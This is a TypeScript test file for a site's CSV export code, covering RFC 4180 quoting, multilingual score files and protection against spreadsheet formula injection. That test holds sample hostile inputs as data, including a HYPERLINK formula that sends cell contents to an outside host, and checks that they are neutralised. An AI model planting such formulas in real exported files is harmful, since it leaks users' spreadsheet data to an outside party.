import { readFileSync } from 'node:fs';
import { parseString } from '@fast-csv/parse';
import { sixPillars } from '@dtc/framework';
import { text } from '@dtc/i18n';
import type { Response } from '@dtc/schema';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvFile, groupCsv, SCORE_HEADER, scoresCsv } from './csv.js';
import { score } from './data.js';
import { LOCALES, setLocale } from './i18n/index.js';

/** The rows of a CSV text, as @fast-csv/parse reads them (RFC 4180, quoted line breaks). */
function readCsv(csv: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString<string[], string[]>(csv, { strictColumnHandling: true })
      .on('data', (row: string[]) => rows.push(row))
      .on('data-invalid', (row: unknown) => reject(new Error(`a row of another width: ${row}`)))
      .on('error', reject)
      .on('end', () => resolve(rows));
  });
}

/** Words in each language's own script, so that texts that did not load show. */
const SCRIPT: Record<string, RegExp> = {
  ar: /\p{Script=Arabic}/u,
  'zh-Hans': /\p{Script=Han}/u,
  ru: /\p{Script=Cyrillic}/u,
};

describe('csvFile', () => {
  it('quotes as RFC 4180 says, with a byte-order mark and CRLF line ends', () => {
    expect(csvFile([['a', 'b,c', 'say "hi"', 'two\nlines', ' padded', null, 12.345]])).toBe(
      '\uFEFFa,"b,c","say ""hi""","two\nlines"," padded",,12.3\r\n',
    );
  });

  it('keeps text from imported files from running as a spreadsheet formula', () => {
    const hostile = [
      '=HYPERLINK("http://example.com/?x="&A1,"open")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
    ];
    const line = csvFile([hostile]).slice(1).trimEnd();
    expect(line).toBe(
      `"'=HYPERLINK(""http://example.com/?x=""&A1,""open"")",'+1+2,'-2+3,'@SUM(A1),'\t=1`,
    );
    // Numbers stay numbers, negative ones too.
    expect(csvFile([[-3, 0, 4.56]])).toBe('\uFEFF-3,0,4.6\r\n');
  });
});

// The score files in every language of the site, read back with a CSV parser no one here
// wrote (@fast-csv/parse, the one ExcelJS reads CSV with). The headers are stable English
// ids, for scripts that read the files (see csv.ts); titles and level labels are in the
// language of the page; scores are bare numbers that a spreadsheet reads in any language.
describe.each(LOCALES)('scoresCsv and groupCsv in %s', (locale) => {
  const response = JSON.parse(
    readFileSync(new URL('../../../docs/examples/response.json', import.meta.url), 'utf8'),
  ) as Response;
  const name = (t: Readonly<Record<string, string>>): string => text(t, locale, sixPillars.locales);

  beforeAll(async () => {
    await setLocale(locale);
  });
  afterAll(async () => {
    await setLocale('en');
  });

  it('writes the ids as headers, the words in the language and bare numbers', async () => {
    const csv = scoresCsv(score(response));
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = await readCsv(csv.slice(1));
    expect(rows[0]).toEqual([...SCORE_HEADER]);
    for (const row of rows) expect(row).toHaveLength(SCORE_HEADER.length);
    const cell = (row: string[], column: (typeof SCORE_HEADER)[number]): string =>
      row[SCORE_HEADER.indexOf(column)]!;
    const result = score(response);
    const byPillar = new Map(
      rows.filter((r) => cell(r, 'scope') === 'pillar').map((r) => [cell(r, 'pillar_id'), r]),
    );
    expect(cell(rows[1]!, 'title')).toBe(name(sixPillars.title));
    for (const p of result.pillars) {
      const row = byPillar.get(p.id)!;
      const pillar = sixPillars.pillars.find((x) => x.id === p.id)!;
      expect(cell(row, 'title')).toBe(name(pillar.title));
      const level = sixPillars.levels.find((l) => l.value === p.level);
      expect(cell(row, 'level_label')).toBe(level ? name(level.label) : '');
      expect(cell(row, 'score')).toMatch(/^(?:\d+(?:\.\d)?)?$/);
      expect(Number(cell(row, 'score'))).toBe(Math.round(p.score! * 10) / 10);
    }
    if (SCRIPT[locale]) expect(cell(rows[1]!, 'title')).toMatch(SCRIPT[locale]);
  });

  it('quotes what needs it, whatever the script', async () => {
    const label = `${name(sixPillars.pillars[0]!.title)}, "2026"`;
    const rows = await readCsv(groupCsv([{ label, response }]).slice(1));
    expect(rows[0]).toEqual(['participant', 'role', 'country', ...SCORE_HEADER]);
    expect(rows.slice(1).every((r) => r[0] === label && r.length === rows[0]!.length)).toBe(true);
  });
});
